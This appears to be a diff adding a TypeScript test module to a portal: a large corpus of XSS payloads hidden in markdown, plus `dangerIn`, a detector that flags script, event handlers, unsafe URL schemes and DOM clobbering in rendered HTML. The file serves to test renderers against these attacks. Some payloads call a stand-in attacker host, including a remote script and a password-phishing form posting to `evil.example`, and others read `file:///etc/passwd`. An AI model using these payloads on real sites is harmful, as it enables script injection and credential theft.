@@ -1,0 +1,486 @@
+import type { Element, Properties, Root, RootContent } from "hast";
+import { fromHtml } from "hast-util-from-html";
+
+/**
+ * Hostile markdown for the portal's renderers, and `dangerIn`, the oracle that reads
+ * what a renderer produced the way a browser would (with a real HTML parser) and lists
+ * everything in it that could run script, leave the page, restyle it or clobber the DOM.
+ *
+ * Every renderer of user or author markdown must turn each payload into HTML in which
+ * `dangerIn` finds nothing. The corpus is shared so that a new renderer (documentation,
+ * with highlighting, anchors and callouts added after sanitizing) is held to the same bar.
+ */
+
+export type XssPayload = { name: string; markdown: string };
+
+/** A media library id, so image payloads reach the branch that keeps an image. */
+const media = "/media/0b0e3c1a-5d2f-4c3b-9a11-2f6e8d7c9b10";
+
+/** `<script>alert(1)</script>`, base64: what a `data:` document would run. */
+const scriptB64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";
+/** `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, base64. */
+const svgB64 = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=";
+
+export const xssCorpus: readonly XssPayload[] = [
+  // --- Script tags. The obvious one; the variants beat filters that match text rather
+  // than parse it (nesting that reassembles after a strip, case, broken or unclosed tags),
+  // and code fences test that escaping out of `<pre><code>` stays text.
+  { name: "script: plain", markdown: "<script>alert(1)</script>" },
+  { name: "script: inline in a paragraph", markdown: "Hello <script>alert(1)</script> world" },
+  { name: "script: nested to reassemble after a strip", markdown: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
+  { name: "script: doubled angle brackets", markdown: "<<script>script>alert(1)<</script>/script>" },
+  { name: "script: mixed case", markdown: "<ScRiPt>alert(1)</sCrIpT>" },
+  { name: "script: unclosed", markdown: "<script>alert(1)" },
+  { name: "script: external src, self-closing", markdown: '<script src="https://evil.example/x.js" />' },
+  { name: "script: slash instead of space", markdown: "<script/src=data:,alert(1)></script>" },
+  { name: "script: newline inside the tag", markdown: "<script\n>alert(1)</script\n>" },
+  { name: "script: in link text", markdown: "[<script>alert(1)</script>](https://example.com)" },
+  {
+    name: "script: breaking out of a backtick fence",
+    markdown: "```\n</code></pre><script>alert(1)</script>\n```",
+  },
+  {
+    name: "script: breaking out of a tilde fence",
+    markdown: "~~~html\n</code></pre><script>alert(1)</script><pre><code>\n~~~",
+  },
+  { name: "script: unclosed fence", markdown: "```\n<script>alert(1)</script>" },
+  {
+    name: "script: fence inside a longer fence",
+    markdown: "````\n```\n</code></pre><script>alert(1)</script>\n```\n````",
+  },
+  { name: "script: in the fence's info string", markdown: '```js"><script>alert(1)</script>\nx\n```' },
+  { name: "script: breaking out of inline code", markdown: "`</code><script>alert(1)</script>`" },
+  { name: "script: indented code block", markdown: "    </code></pre><script>alert(1)</script>" },
+
+  // --- Event handler attributes: script without a script tag, in any element that
+  // fires an event by itself (onerror, onload, autofocus + onfocus) or on a hover.
+  { name: "on*: img onerror", markdown: "<img src=x onerror=alert(1)>" },
+  { name: "on*: media image with onerror", markdown: `<img src="${media}" onerror="alert(1)">` },
+  { name: "on*: mixed case", markdown: "<IMG SRC=x OnErRoR=alert(1)>" },
+  { name: "on*: slash as separator", markdown: "<img/src=x/onerror=alert(1)>" },
+  { name: "on*: body onload", markdown: "<body onload=alert(1)>" },
+  { name: "on*: autofocus and onfocus", markdown: "<input autofocus onfocus=alert(1)>" },
+  { name: "on*: onmouseover in inline html", markdown: 'Some <b onmouseover="alert(1)">bold</b> text' },
+  { name: "on*: div block", markdown: '<div onmouseover="alert(1)">\n\nhover me\n\n</div>' },
+  { name: "on*: details ontoggle", markdown: "<details open ontoggle=alert(1)><summary>x</summary></details>" },
+  { name: "on*: video source onerror", markdown: "<video><source onerror=alert(1)></video>" },
+  { name: "on*: audio onerror", markdown: "<audio src=x onerror=alert(1)></audio>" },
+  { name: "on*: marquee onstart", markdown: "<marquee onstart=alert(1)>x</marquee>" },
+  { name: "on*: link with onclick", markdown: '<a href="https://example.com" onclick="alert(1)">x</a>' },
+  { name: "on*: custom element", markdown: "<x-card onpointerenter=alert(1)>x</x-card>" },
+  { name: "on*: newline before =", markdown: "<img src=x onerror\n=alert(1)>" },
+
+  // --- SVG and MathML: foreign content parses differently (a `<script>` or `<style>`
+  // inside it is live markup), animations can set `href` to `javascript:` after load,
+  // and `<use>` can pull a whole document in.
+  { name: "svg: onload", markdown: "<svg onload=alert(1)>" },
+  { name: "svg: script inside", markdown: "<svg><script>alert(1)</script></svg>" },
+  {
+    name: "svg: foreignObject with an iframe",
+    markdown: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  },
+  {
+    name: "svg: animate sets href",
+    markdown: '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text y="20">x</text></a></svg>',
+  },
+  {
+    name: "svg: set sets href",
+    markdown: '<svg><a><set attributeName="href" to="javascript:alert(1)" /><text y="20">x</text></a></svg>',
+  },
+  { name: "svg: use href data document", markdown: `<svg><use href="data:image/svg+xml;base64,${svgB64}#x" /></svg>` },
+  { name: "svg: xlink:href javascript", markdown: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' },
+  { name: "svg: style with import", markdown: "<svg><style>@import url(javascript:alert(1));</style></svg>" },
+  { name: "math: href", markdown: '<math href="javascript:alert(1)">click</math>' },
+  {
+    name: "math: mglyph style mutation",
+    markdown: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+  },
+
+  // --- `javascript:` URLs in markdown's own links. Raw HTML is dropped, so this is
+  // what reaches the sanitizer; markdown decodes character references in destinations,
+  // and browsers strip whitespace/controls and ignore case when reading a scheme.
+  { name: "js url: link", markdown: "[x](javascript:alert(1))" },
+  { name: "js url: mixed case", markdown: "[x](JaVaScRiPt:alert(1))" },
+  { name: "js url: leading spaces", markdown: "[x](   javascript:alert(1))" },
+  { name: "js url: leading tab", markdown: "[x](\tjavascript:alert(1))" },
+  { name: "js url: pointy brackets", markdown: "[x](<javascript:alert(1)>)" },
+  { name: "js url: pointy brackets with spaces", markdown: "[x](< javascript:alert(1) >)" },
+  { name: "js url: with a title", markdown: '[x](javascript:alert(1) "title")' },
+  { name: "js url: hex entity for j", markdown: "[x](&#x6A;avascript:alert(1))" },
+  { name: "js url: zero-padded decimal entity", markdown: "[x](&#0000106;avascript:alert(1))" },
+  {
+    name: "js url: all decimal entities",
+    markdown: "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
+  },
+  { name: "js url: entity tab inside", markdown: "[x](jav&#x09;ascript:alert(1))" },
+  { name: "js url: entity newline inside", markdown: "[x](java&#x0A;script:alert(1))" },
+  { name: "js url: entity colon", markdown: "[x](javascript&colon;alert(1))" },
+  { name: "js url: numeric colon", markdown: "[x](javascript&#58;alert(1))" },
+  { name: "js url: leading entity space", markdown: "[x](&#x20;javascript:alert(1))" },
+  { name: "js url: percent-encoded", markdown: "[x](%6A%61%76%61%73%63%72%69%70%74%3Aalert(1))" },
+  { name: "js url: percent-encoded newline", markdown: "[x](java%0ascript:alert(1))" },
+  { name: "js url: newline split (not a link)", markdown: "[x](java\nscript:alert(1))" },
+  { name: "js url: comment after //", markdown: "[x](javascript://%0Aalert(1))" },
+  { name: "js url: image", markdown: "![x](javascript:alert(1))" },
+  { name: "js url: autolink", markdown: "<javascript:alert(1)>" },
+  { name: "js url: autolink upper case", markdown: "<JAVASCRIPT:alert(1)>" },
+  { name: "js url: autolink that looks like an email", markdown: "<javascript:alert(1)@example.com>" },
+  { name: "js url: reference definition", markdown: "[x][1]\n\n[1]: javascript:alert(1)" },
+  { name: "js url: reference, shortcut", markdown: "[click]\n\n[click]: <javascript:alert(1)> 'title'" },
+  { name: "js url: reference, collapsed and case-folded", markdown: "[Click][]\n\n[CLICK]: JavaScript:alert(1)" },
+  { name: "js url: reference image", markdown: "![x][img]\n\n[img]: javascript:alert(1)" },
+
+  // --- `data:` URLs: a whole attacker document (HTML or SVG) behind a link or image.
+  { name: "data url: text/html link", markdown: "[x](data:text/html,<script>alert(1)</script>)" },
+  { name: "data url: base64 html link", markdown: `[x](data:text/html;base64,${scriptB64})` },
+  { name: "data url: upper case", markdown: "[x](DATA:text/html,alert(1))" },
+  { name: "data url: svg image", markdown: `![x](data:image/svg+xml;base64,${svgB64})` },
+  { name: "data url: png image", markdown: "![x](data:image/png;base64,iVBORw0KGgo=)" },
+  { name: "data url: autolink", markdown: "<data:text/html,alert(1)>" },
+  { name: "data url: reference definition", markdown: `[x][d]\n\n[d]: data:text/html;base64,${scriptB64}` },
+
+  // --- Other schemes: legacy script schemes and local files.
+  { name: "scheme: vbscript", markdown: "[x](vbscript:msgbox(1))" },
+  { name: "scheme: livescript", markdown: "[x](livescript:alert(1))" },
+  { name: "scheme: file link", markdown: "[x](file:///etc/passwd)" },
+  { name: "scheme: file autolink", markdown: "<file:///etc/passwd>" },
+  { name: "scheme: file image", markdown: "![x](file:///C:/secret.png)" },
+
+  // --- Malformed and unclosed HTML: what a parser repairs may not be what a filter saw.
+  { name: "malformed: no closing bracket", markdown: "<img src=x onerror=alert(1)//" },
+  { name: "malformed: unclosed anchor", markdown: '<a href="javascript:alert(1)">unclosed' },
+  { name: "malformed: doubled brackets", markdown: "<<img src=x onerror=alert(1)>>" },
+  { name: "malformed: quotes break out", markdown: '<img """><script>alert(1)</script>">' },
+  { name: "malformed: stray end tags", markdown: "</p><script>alert(1)</script><p>" },
+  { name: "malformed: eval of own attribute", markdown: "<img src=x:alert(alt) onerror=eval(src) alt=0>" },
+  { name: "malformed: entity in raw href", markdown: "<a href=javascript&colon;alert(1)>x</a>" },
+
+  // --- HTML comments: parsers disagree on where a comment ends.
+  { name: "comment: around a script", markdown: "<!-- --><script>alert(1)</script><!-- -->" },
+  { name: "comment: ends inside an attribute", markdown: '<!--<img src="--><img src=x onerror=alert(1)//">' },
+  { name: "comment: abruptly closed", markdown: "<!---><script>alert(1)</script>" },
+  { name: "comment: conditional", markdown: "<!--[if IE]><script>alert(1)</script><![endif]-->" },
+  { name: "comment: opened in inline code", markdown: "`<!--` <script>alert(1)</script> `-->`" },
+
+  // --- Embedded documents, plugins, forms and document-level elements: each loads or
+  // submits somewhere else, or changes how the whole page resolves or refreshes.
+  { name: "embed: iframe srcdoc", markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
+  { name: "embed: iframe javascript src", markdown: '<iframe src="javascript:alert(1)"></iframe>' },
+  { name: "embed: object data", markdown: `<object data="data:text/html;base64,${scriptB64}"></object>` },
+  { name: "embed: embed svg", markdown: `<embed src="data:image/svg+xml;base64,${svgB64}">` },
+  { name: "embed: applet", markdown: '<applet code="Evil.class"></applet>' },
+  { name: "embed: frameset onload", markdown: "<frameset onload=alert(1)>" },
+  { name: "form: action", markdown: '<form action="javascript:alert(1)"><button>Go</button></form>' },
+  { name: "form: formaction", markdown: '<form><button formaction="javascript:alert(1)">Go</button></form>' },
+  {
+    name: "form: credential phishing",
+    markdown: '<form action="https://evil.example"><input name="password" type="password"></form>',
+  },
+  { name: "form: isindex", markdown: "<isindex action=javascript:alert(1) type=image>" },
+  { name: "meta: refresh", markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
+  { name: "base: href", markdown: '<base href="javascript:alert(1)//">' },
+  { name: "link: rel=import", markdown: '<link rel="import" href="data:text/html,<script>alert(1)</script>">' },
+  { name: "link: stylesheet", markdown: '<link rel="stylesheet" href="https://evil.example/x.css">' },
+
+  // --- Styles: old IE ran `expression()`, `url(javascript:)` ran in some engines, and
+  // any author CSS can overlay the page or read attributes with selectors.
+  {
+    name: "style: element with url(javascript:)",
+    markdown: "<style>body{background:url(javascript:alert(1))}</style>",
+  },
+  { name: "style: element with import", markdown: "<style>@import 'https://evil.example/x.css';</style>" },
+  { name: "style: attribute expression()", markdown: '<div style="width: expression(alert(1))">x</div>' },
+  { name: "style: attribute url(javascript:)", markdown: "<p style=\"background:url('javascript:alert(1)')\">x</p>" },
+  { name: "style: attribute overlay", markdown: '<div style="position:fixed;inset:0;z-index:9">x</div>' },
+
+  // --- Markdown's own link and image syntax: titles and alt text end up in attributes,
+  // so they must stay inside their quotes.
+  { name: "md: title injection", markdown: '[a](https://example.com "onmouseover=alert(1)")' },
+  { name: "md: title with quotes", markdown: "[a](https://example.com '\" onmouseover=\"alert(1)')" },
+  { name: "md: title with entities", markdown: '[a](https://example.com "&quot; onmouseover=&quot;alert(1)")' },
+  { name: "md: quotes in the destination", markdown: '[a](https://example.com"onmouseover="alert(1))' },
+  {
+    name: "md: pointy destination with spaces",
+    markdown: '[a](<https://example.com" onmouseover="alert(1)>)',
+  },
+  { name: "md: nested brackets", markdown: "[[x](javascript:alert(1))](https://example.com)" },
+  { name: "md: image in a javascript link", markdown: `[![x](${media})](javascript:alert(1))` },
+  { name: "md: alt breaking out", markdown: `![" onerror="alert(1)](${media})` },
+  { name: "md: image title breaking out", markdown: `![x](${media} "\\" onerror=\\"alert(1)")` },
+  { name: "md: autolink with markup", markdown: '<https://example.com/"><script>alert(1)</script>>' },
+  { name: "md: literal www autolink with markup", markdown: "www.example.com/?q=<script>alert(1)</script>" },
+  { name: "md: image from another site", markdown: "![x](https://evil.example/pixel.png)" },
+  { name: "md: protocol-relative image", markdown: "![x](//evil.example/pixel.png)" },
+  { name: "md: media path traversal", markdown: `![x](${media}/../../evil.svg)` },
+  { name: "md: media path on another host", markdown: `![x](https://evil.example${media})` },
+
+  // --- Entities: escaped markup must stay visible text, even when double-encoded.
+  { name: "entity: escaped script", markdown: "&lt;script&gt;alert(1)&lt;/script&gt;" },
+  { name: "entity: double-encoded", markdown: "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;" },
+  { name: "entity: decimal", markdown: "&#60;script&#62;alert(1)&#60;/script&#62;" },
+  { name: "entity: hex img onerror", markdown: "&#x3C;img src=x onerror=alert(1)&#x3E;" },
+  { name: "entity: backslash escapes", markdown: "\\<script>alert(1)\\</script>" },
+
+  // --- GFM: tables, footnotes and task lists each build their own elements (cells,
+  // back-references with ids, checkboxes) around what the author wrote.
+  {
+    name: "gfm: html in table cells",
+    markdown: "| a | b |\n| - | - |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
+  },
+  { name: "gfm: javascript link in a table", markdown: "| a |\n| :-: |\n| [x](javascript:alert(1)) |" },
+  {
+    name: "gfm: html in a footnote",
+    markdown: "Note[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
+  },
+  {
+    name: "gfm: footnote label clobbering",
+    markdown: "See[^location] and[^__proto__]\n\n[^location]: a\n[^__proto__]: b",
+  },
+  { name: "gfm: task list with an input", markdown: "- [ ] <input autofocus onfocus=alert(1)>\n- [x] done" },
+  { name: "gfm: strikethrough around markup", markdown: "~~<script>alert(1)</script>~~" },
+
+  // --- DOM clobbering: an element with `id`/`name` becomes a global (or a property of
+  // `document`/a form) and can shadow what the page's own script reads.
+  { name: "clobber: id=location", markdown: '<p id="location">x</p>' },
+  { name: "clobber: name=cookie", markdown: '<img name="cookie" src="x">' },
+  { name: "clobber: __proto__", markdown: '<a id="__proto__" name="__proto__" href="#">x</a>' },
+  { name: "clobber: form with named inputs", markdown: '<form id="config"><input name="attributes"></form>' },
+
+  // --- Reverse tabnabbing: an opened page gets `window.opener` without `noopener`.
+  { name: "target: blank without rel", markdown: '<a href="https://example.com" target="_blank">x</a>' },
+
+  // --- Raw-text and template elements: their contents parse differently (as text or
+  // as an inert fragment) in different contexts, the root of mutation XSS.
+  { name: "raw text: template", markdown: "<template><script>alert(1)</script></template>" },
+  {
+    name: "raw text: noscript mutation",
+    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  },
+  { name: "raw text: xmp", markdown: "<xmp><script>alert(1)</script></xmp>" },
+  { name: "raw text: plaintext", markdown: "<plaintext><script>alert(1)</script>" },
+  { name: "raw text: listing", markdown: "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>" },
+  { name: "raw text: textarea break out", markdown: "<textarea></textarea><script>alert(1)</script>" },
+  { name: "raw text: title break out", markdown: '<title><img title="</title><img src=x onerror=alert(1)>"></title>' },
+
+  // --- CDATA: only meaningful in foreign content, where it can hide a tag from a filter.
+  { name: "cdata: in html", markdown: "<![CDATA[<script>alert(1)</script>]]>" },
+  {
+    name: "cdata: in svg",
+    markdown: '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
+  },
+
+  // --- Unicode: look-alikes, invisible characters and escape sequences that a
+  // case-insensitive or normalising filter may turn into the real thing.
+  { name: "unicode: long s in tag name", markdown: "<ſcript>alert(1)</ſcript>" },
+  { name: "unicode: fullwidth brackets", markdown: "＜script＞alert(1)＜/script＞" },
+  { name: "unicode: zero-width space in scheme", markdown: "[x](java\u200bscript:alert(1))" },
+  { name: "unicode: byte order mark before scheme", markdown: "[x](\ufeffjavascript:alert(1))" },
+  { name: "unicode: right-to-left override", markdown: "[x](\u202ejavascript:alert(1))" },
+  { name: "unicode: js escape sequences", markdown: "[x](\\u006Aavascript\\u003Aalert(1))" },
+
+  // --- Null bytes: some parsers drop them, so `java\0script:` can become `javascript:`.
+  { name: "null: in tag name", markdown: "<scr\0ipt>alert(1)</scr\0ipt>" },
+  { name: "null: in scheme", markdown: "[x](java\0script:alert(1))" },
+  { name: "null: before colon", markdown: "[x](javascript\0:alert(1))" },
+  { name: "null: before attribute", markdown: "<img src=x \0onerror=alert(1)>" },
+
+  // --- Size: deep nesting and sheer length must not crash the renderer or push a
+  // payload past a limit. (Nesting stays at 1,000: `dangerIn`'s parser overflows the
+  // stack somewhere past 1,500 levels and then fails closed.)
+  {
+    name: "long: deeply nested html",
+    markdown: `${"<div>".repeat(1000)}<script>alert(1)</script>${"</div>".repeat(1000)}`,
+  },
+  { name: "long: javascript link after a very long line", markdown: `${"x ".repeat(50_000)}[x](javascript:alert(1))` },
+  { name: "long: very long javascript url", markdown: `[x](javascript:${"a".repeat(100_000)})` },
+  { name: "long: deeply nested blockquotes", markdown: `${"> ".repeat(200)}[x](javascript:alert(1))` },
+  {
+    name: "long: many nested links and emphasis",
+    markdown: `${"*[".repeat(500)}x${"](javascript:alert(1))*".repeat(500)}`,
+  },
+];
+
+export type DangerOptions = {
+  /** The prefixes an `id` or `name` must start with (default: `note-`, `user-content-`). */
+  idPrefixes?: readonly string[];
+  /**
+   * Headings may also carry a plain slug as their id (the docs' anchors: `#before-you-start`).
+   * A heading's id cannot clobber what our scripts read: they read no globals.
+   */
+  headingIds?: boolean;
+};
+
+/** Elements that run script, embed or submit elsewhere, restyle, or parse as something else. */
+const forbiddenElements = new Set([
+  "script",
+  "style",
+  "iframe",
+  "frame",
+  "frameset",
+  "object",
+  "embed",
+  "applet",
+  "form",
+  "input",
+  "button",
+  "textarea",
+  "select",
+  "meta",
+  "base",
+  "link",
+  "svg",
+  "math",
+  "template",
+  "noscript",
+  "xmp",
+  "plaintext",
+  "listing",
+  "animate",
+  "set",
+  "foreignobject",
+  // Not in every list, same reasons.
+  "animatemotion",
+  "animatetransform",
+  "isindex",
+  "noembed",
+  "noframes",
+  "portal",
+]);
+
+/** Attributes never wanted, whatever their value (lower case, without `:`). */
+const forbiddenAttributes = new Map([
+  ["style", "style"],
+  ["srcdoc", "srcdoc"],
+  ["formaction", "formaction"],
+  ["action", "action"],
+  ["xlinkhref", "xlink:href"],
+]);
+
+/** Attributes holding a URL (or, for `srcset` and `ping`, a list of them). */
+const urlAttributes = new Set([
+  "href",
+  "src",
+  "cite",
+  "poster",
+  "background",
+  "action",
+  "data",
+  "srcset",
+  "ping",
+  "longdesc",
+]);
+
+const allowedSchemes = new Set(["http", "https", "mailto", "tel"]);
+
+/**
+ * The scheme a browser would read from a URL attribute, if any: ASCII whitespace and
+ * control characters removed (browsers drop tabs and newlines anywhere), lower case.
+ */
+function schemeOf(url: string): string | undefined {
+  // eslint-disable-next-line no-control-regex -- control characters are the point
+  const cleaned = url.replace(/[\u0000-\u0020\u007f]/g, "").toLowerCase();
+  return /^([a-z][a-z0-9+.-]*):/.exec(cleaned)?.[1];
+}
+
+/** A property's value as strings (hast keeps lists as arrays, booleans as booleans). */
+function valuesOf(value: Properties[string]): string[] {
+  if (Array.isArray(value)) return value.map(String);
+  if (value === undefined || value === null || value === false) return [];
+  return [String(value)];
+}
+
+/** The URLs in an attribute's value: `srcset` lists candidates (`url descriptor, …`). */
+function urlsOf(attribute: string, value: Properties[string]): string[] {
+  const values = valuesOf(value);
+  if (attribute !== "srcset") return values;
+  return values.flatMap((v) => v.split(",")).map((candidate) => candidate.trim().split(/\s+/)[0] ?? "");
+}
+
+function show(value: Properties[string]): string {
+  return JSON.stringify(valuesOf(value).join(" "));
+}
+
+/**
+ * Everything in `html` that could run script, navigate or submit elsewhere, restyle the
+ * page or clobber the DOM, one finding per problem (an empty list means clean). The HTML
+ * is parsed as a browser parses it in a page's body, so entities are decoded, tags are
+ * repaired, stray `<body>`/`<html>` attributes land on the page's elements, and
+ * `<template>` contents are included. HTML too deep to parse is reported, not passed.
+ */
+export function dangerIn(html: string, options: DangerOptions = {}): string[] {
+  const idPrefixes = options.idPrefixes ?? ["note-", "user-content-"];
+  const findings: string[] = [];
+
+  const check = (element: Element) => {
+    const tag = element.tagName.toLowerCase();
+    const where = `<${element.tagName}>`;
+    const properties = element.properties;
+    const isTaskCheckbox =
+      tag === "input" && String(properties.type).toLowerCase() === "checkbox" && properties.disabled === true;
+    if (forbiddenElements.has(tag) && !isTaskCheckbox) findings.push(`element ${where}`);
+
+    for (const [property, value] of Object.entries(properties)) {
+      // hast names properties in camel case (`onError`, `srcDoc`, `xLinkHref`): lower
+      // case and without punctuation, they compare with attribute names.
+      const attribute = property.toLowerCase().replace(/[^a-z0-9]/g, "");
+      if (attribute.startsWith("on")) {
+        findings.push(`event handler ${attribute}=${show(value)} on ${where}`);
+        continue;
+      }
+      const forbidden = forbiddenAttributes.get(attribute);
+      if (forbidden) {
+        findings.push(`attribute ${forbidden}=${show(value)} on ${where}`);
+        continue;
+      }
+      if (urlAttributes.has(attribute)) {
+        for (const url of urlsOf(attribute, value)) {
+          const scheme = schemeOf(url);
+          if (scheme !== undefined && !allowedSchemes.has(scheme)) {
+            findings.push(`${scheme}: URL in ${attribute}=${JSON.stringify(url)} on ${where}`);
+          }
+        }
+      }
+      if (attribute === "id" || attribute === "name") {
+        const headingAnchor = options.headingIds === true && attribute === "id" && /^h[1-6]$/.test(tag);
+        for (const name of valuesOf(value)) {
+          if (headingAnchor && /^[a-z0-9-]+$/.test(name)) continue;
+          if (!idPrefixes.some((prefix) => name.startsWith(prefix))) {
+            findings.push(
+              `${attribute}=${JSON.stringify(name)} on ${where} does not start with ${idPrefixes.join(" or ")}`,
+            );
+          }
+        }
+      }
+    }
+
+    const target = valuesOf(properties.target).join(" ").toLowerCase();
+    const rel = valuesOf(properties.rel).map((token) => token.toLowerCase());
+    if (target === "_blank" && !rel.includes("noopener")) {
+      findings.push(`target=_blank without rel=noopener on ${where}`);
+    }
+  };
+
+  let tree: Root;
+  try {
+    // Parsed where the page puts it, inside a document's body (not as a detached
+    // fragment): there, a stray `<body onload>` or `<html onload>` adds its attributes
+    // to the page's own element.
+    tree = fromHtml(`<!doctype html><html><head></head><body>${html}`);
+  } catch (error) {
+    // Converting parse5's tree to hast recurses once per level: HTML nested deeply enough
+    // overflows the stack. Fail closed: what cannot be checked is not clean.
+    if (error instanceof RangeError) return [`HTML too deeply nested to check (${error.message})`];
+    throw error;
+  }
+
+  // Depth-first, in document order, without recursion (the nesting can be deep).
+  const pending: RootContent[] = tree.children.toReversed();
+  for (let node = pending.pop(); node; node = pending.pop()) {
+    if (node.type !== "element") continue;
+    check(node);
+    // A `<template>`'s children live in a separate fragment.
+    const next: RootContent[] = [...node.children, ...(node.content?.children ?? [])];
+    for (const child of next.toReversed()) pending.push(child);
+  }
+  return findings;
+}
